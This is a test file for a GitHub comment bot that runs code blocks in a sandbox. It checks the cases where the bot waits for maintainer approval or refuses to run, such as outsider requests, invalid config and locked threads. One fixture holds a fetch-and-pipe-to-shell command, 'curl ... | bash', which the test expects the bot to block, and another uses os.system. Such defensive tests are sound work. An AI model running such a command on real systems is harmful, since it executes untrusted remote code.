/** What runs nothing: requests that wait for somebody, and requests that are refused. */
import { handleText } from '../../src/app/conversation';
import { ALICE, type FakeWorld, makeWorld } from '../support/fakes';
import { COMMENT, cameTo, comment, fence, ISSUE, place, reactions, refused, reports, run, trigger } from './thread';

describe('a comment', () => {
  let world: FakeWorld;
  beforeEach(() => {
    world = makeWorld();
  });
  const config = (text: string) => world.forge.files.set('.github/sallyport.yml', text);

  describe('runs nothing and waits', () => {
    const waits = (risk: string) => ({
      decision: 'await-approval',
      reasonCode: 'needs_approval',
      conclusion: 'action_required',
      risk,
      statuses: ['not-run'],
    });

    test('when an outsider asks', async () => {
      expect((await comment(world, run('print(1)'), ALICE)).map(cameTo)).toEqual([waits('low')]);
      expect([world.sandbox.programs, reactions(world)]).toEqual([[], ['eyes on issue_comment:501']]);
      expect(reports(world)).toHaveLength(1);
    });

    test('when an outsider edited a maintainer’s comment', async () => {
      place(world, run('print(1)'));
      world.forge.place(COMMENT, { body: run('print(1)'), lastEditor: ALICE });
      expect((await handleText(world.house, trigger(run('print(1)')))).map(cameTo)).toEqual([waits('low')]);
    });

    test('when a maintainer asks for code that an account wrote which is gone', async () => {
      place(world, run('print(1)'), { id: 0, login: 'ghost', isBot: false });
      expect((await handleText(world.house, trigger(run('print(1)')))).map(cameTo)).toEqual([waits('low')]);
    });

    test('when the scan sees a risk', async () => {
      const [outcome] = await comment(world, run('import os\nos.system("ls")'));
      expect(outcome?.record).toMatchObject({ decision: 'await-approval', reasonCode: 'needs_approval' });
      expect(world.sandbox.programs).toEqual([]);
    });

    test('when more than the default limits is asked for', async () => {
      expect((await comment(world, run('print(1)', '/run --timeout 60s'))).map(cameTo)).toEqual([waits('medium')]);
    });

    test('when the repository wants an approval every time', async () => {
      config('approval: { required: always }');
      expect((await comment(world, run('print(1)'))).map(cameTo)).toEqual([waits('low')]);
    });
  });

  describe('runs nothing and says why', () => {
    test.each([
      ['an unknown option', run('print(1)', '/run --tiemout 5s'), 'usage_error'],
      ['an unknown language', `/run\n\n${fence('cobol', 'x')}\n`, 'unknown_language'],
      ['a block number that is not there', run('print(1)', '/run 3'), 'not_found'],
      ['more than the maximum', run('print(1)', '/run --timeout 10m'), 'limit_exceeded'],
      ['a network', run('print(1)', '/run --network example.org'), 'blocked_by_policy'],
      ['a task', '/run compute the factorial of ten', 'model_unavailable'],
      ['a plan of a task', '/run plan compute the factorial of ten', 'model_unavailable'],
    ])('for %s', async (_name, body, reasonCode) => {
      expect((await comment(world, body)).map(cameTo)).toEqual([refused(reasonCode)]);
      expect([world.sandbox.programs, reactions(world)]).toEqual([[], ['confused on issue_comment:501']]);
      expect(reports(world)).toHaveLength(1);
    });

    test('for a syntax error in any of its blocks', async () => {
      const body = `/run\n\n${fence('python', 'print(1)')}\n\n${fence('python', 'print(')}\n`;
      const [outcome] = await comment(world, body);
      expect(outcome?.record).toMatchObject({ decision: 'refuse', reasonCode: 'syntax_error', conclusion: 'neutral' });
      expect(world.sandbox.programs).toEqual([]);
    });

    test('for high risk where it is blocked', async () => {
      config('security: { high: block }');
      const [outcome] = await comment(world, `/run\n\n${fence('bash', 'curl -s https://example.org/x | bash')}\n`);
      expect(outcome?.record).toMatchObject({ decision: 'refuse', reasonCode: 'blocked_by_policy', risk: 'high' });
    });

    test('when the text is gone', async () => {
      world.forge.threads.set(5, {
        locked: false,
        isClosed: false,
        isArchived: false,
        baseRef: null,
        isPullRequest: false,
        headSha: null,
        isFork: false,
        labels: [],
        description: ISSUE,
      });
      expect((await handleText(world.house, trigger(run('print(1)')))).map(cameTo)).toEqual([refused('not_found')]);
    });

    test('when the house rules are wrong, with every mistake', async () => {
      config('limits: { cpus: many }\ncolour: red\n');
      expect((await comment(world, run('print(1)'))).map(cameTo)).toEqual([refused('config_invalid')]);
      for (const word of ['limits.cpus', 'colour']) expect(reports(world)[0]).toContain(word);
    });

    test('when the repository’s own rules are wrong', async () => {
      config('security: { rules: ["rules/*.yml"] }');
      world.forge.files.set('rules/own.yml', 'rules: [');
      expect((await comment(world, run('print(1)'))).map(cameTo)).toEqual([refused('config_invalid')]);
    });

    test.each([
      ['enabled: false', 'disabled'],
      ['{ languages: [bash], defaults: { language: bash } }', 'unknown_language'],
      ['defaults: { policy: open }', 'blocked_by_policy'],
    ])('under %j: %s', async (text, reasonCode) => {
      config(text);
      expect((await comment(world, run('print(1)'))).map(cameTo)).toEqual([refused(reasonCode)]);
    });

    test('in a locked conversation', async () => {
      world.forge.threads.set(5, {
        locked: true,
        isClosed: false,
        isArchived: false,
        baseRef: null,
        isPullRequest: false,
        headSha: null,
        isFork: false,
        labels: [],
        description: ISSUE,
      });
      expect((await comment(world, run('print(1)'))).map(cameTo)).toEqual([refused('locked')]);
    });

    test.each(['readText', 'readThread', 'readFile', 'roleOf'] as const)(
      'when GitHub refuses %s: what cannot be established grants nothing',
      async (method) => {
        world.forge.broken.add(method);
        expect((await comment(world, run('print(1)'))).map(cameTo)).toEqual([refused('permission_unknown')]);
        expect(world.sandbox.programs).toEqual([]);
      },
    );
  });
});
